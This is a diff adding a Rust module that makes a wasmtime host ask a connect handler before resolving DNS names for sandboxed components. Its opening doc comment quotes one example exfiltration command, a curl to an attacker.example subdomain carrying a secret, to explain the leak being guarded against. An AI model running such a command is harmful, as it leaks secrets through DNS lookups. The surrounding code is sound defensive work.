@@ -0,0 +1,131 @@
+//! Name lookups of spawned components, checked by their [`ConnectHandler`].
+//!
+//! wasmtime-wasi only turns name lookups on or off as a whole, and a
+//! component allowed to resolve names can leak data in the names themselves
+//! (`curl http://$SECRET.attacker.example`) even when every connection is
+//! refused. When a handler is set, the child linker shadows
+//! `wasi:sockets/ip-name-lookup` with the implementations here, which ask
+//! [`ConnectHandler::allow_lookup`] before resolving.
+//!
+//! The p2 interface hands the allowed lookups on to wasmtime-wasi; the p3
+//! one resolves them itself, since its host functions are bound to
+//! wasmtime-wasi's own store data.
+
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use wasmtime::component::{Accessor, HasData, Linker, Resource};
+use wasmtime_wasi::p2::bindings::sockets::ip_name_lookup as p2;
+use wasmtime_wasi::p2::bindings::sockets::network::{ErrorCode as P2ErrorCode, Network};
+use wasmtime_wasi::p2::{DynPollable, SocketError};
+use wasmtime_wasi::p3::bindings::sockets::ip_name_lookup as p3;
+use wasmtime_wasi::sockets::WasiSocketsCtxView;
+
+use super::registry::{ConnectHandler, LookupRequest};
+
+/// The store data the shadowed interfaces see.
+pub(super) struct CheckedLookup<'a> {
+    /// The component's sockets, which resolve allowed p2 lookups.
+    pub sockets: WasiSocketsCtxView<'a>,
+    /// The handler asked about each name.
+    pub connect: Arc<dyn ConnectHandler>,
+    /// The command resolving names (`argv[0]`).
+    pub command: Arc<str>,
+}
+
+impl CheckedLookup<'_> {
+    fn allow(&self, name: &str) -> bool {
+        self.connect.allow_lookup(LookupRequest {
+            command: self.command.to_string(),
+            name: name.to_string(),
+        })
+    }
+}
+
+/// [`HasData`] for [`CheckedLookup`].
+struct CheckedLookupData;
+
+impl HasData for CheckedLookupData {
+    type Data<'a> = CheckedLookup<'a>;
+}
+
+/// Shadow the p2 and p3 `wasi:sockets/ip-name-lookup` in `linker`, which
+/// must allow shadowing, with lookups checked through `get`.
+pub(super) fn add_to_linker<T: Send + 'static>(
+    linker: &mut Linker<T>,
+    get: fn(&mut T) -> CheckedLookup<'_>,
+) -> wasmtime::Result<()> {
+    p2::add_to_linker::<T, CheckedLookupData>(linker, get)?;
+    p3::add_to_linker::<T, CheckedLookupData>(linker, get)?;
+    Ok(())
+}
+
+impl p2::Host for CheckedLookup<'_> {
+    fn resolve_addresses(
+        &mut self,
+        network: Resource<Network>,
+        name: String,
+    ) -> Result<Resource<p2::ResolveAddressStream>, SocketError> {
+        if !self.allow(&name) {
+            return Err(P2ErrorCode::PermissionDenied.into());
+        }
+        p2::Host::resolve_addresses(&mut self.sockets, network, name)
+    }
+}
+
+impl p2::HostResolveAddressStream for CheckedLookup<'_> {
+    fn resolve_next_address(
+        &mut self,
+        stream: Resource<p2::ResolveAddressStream>,
+    ) -> Result<Option<p2::IpAddress>, SocketError> {
+        p2::HostResolveAddressStream::resolve_next_address(&mut self.sockets, stream)
+    }
+
+    fn subscribe(
+        &mut self,
+        stream: Resource<p2::ResolveAddressStream>,
+    ) -> wasmtime::Result<Resource<DynPollable>> {
+        p2::HostResolveAddressStream::subscribe(&mut self.sockets, stream)
+    }
+
+    fn drop(&mut self, stream: Resource<p2::ResolveAddressStream>) -> wasmtime::Result<()> {
+        p2::HostResolveAddressStream::drop(&mut self.sockets, stream)
+    }
+}
+
+impl p3::Host for CheckedLookup<'_> {}
+
+impl p3::HostWithStore for CheckedLookupData {
+    async fn resolve_addresses<U>(
+        store: &Accessor<U, Self>,
+        name: String,
+    ) -> wasmtime::Result<Result<Vec<p3::IpAddress>, p3::ErrorCode>> {
+        if !store.with(|mut view| view.get().allow(&name)) {
+            return Ok(Err(p3::ErrorCode::AccessDenied));
+        }
+        let Ok(addrs) = tokio::net::lookup_host((name.as_str(), 0)).await else {
+            return Ok(Err(p3::ErrorCode::NameUnresolvable));
+        };
+        let mut ips: Vec<IpAddr> = Vec::new();
+        for addr in addrs {
+            if !ips.contains(&addr.ip()) {
+                ips.push(addr.ip());
+            }
+        }
+        Ok(Ok(ips.into_iter().map(ip_address).collect()))
+    }
+}
+
+/// The p3 form of `ip`.
+fn ip_address(ip: IpAddr) -> p3::IpAddress {
+    match ip {
+        IpAddr::V4(ip) => {
+            let [a, b, c, d] = ip.octets();
+            p3::IpAddress::Ipv4((a, b, c, d))
+        }
+        IpAddr::V6(ip) => {
+            let [a, b, c, d, e, f, g, h] = ip.segments();
+            p3::IpAddress::Ipv6((a, b, c, d, e, f, g, h))
+        }
+    }
+}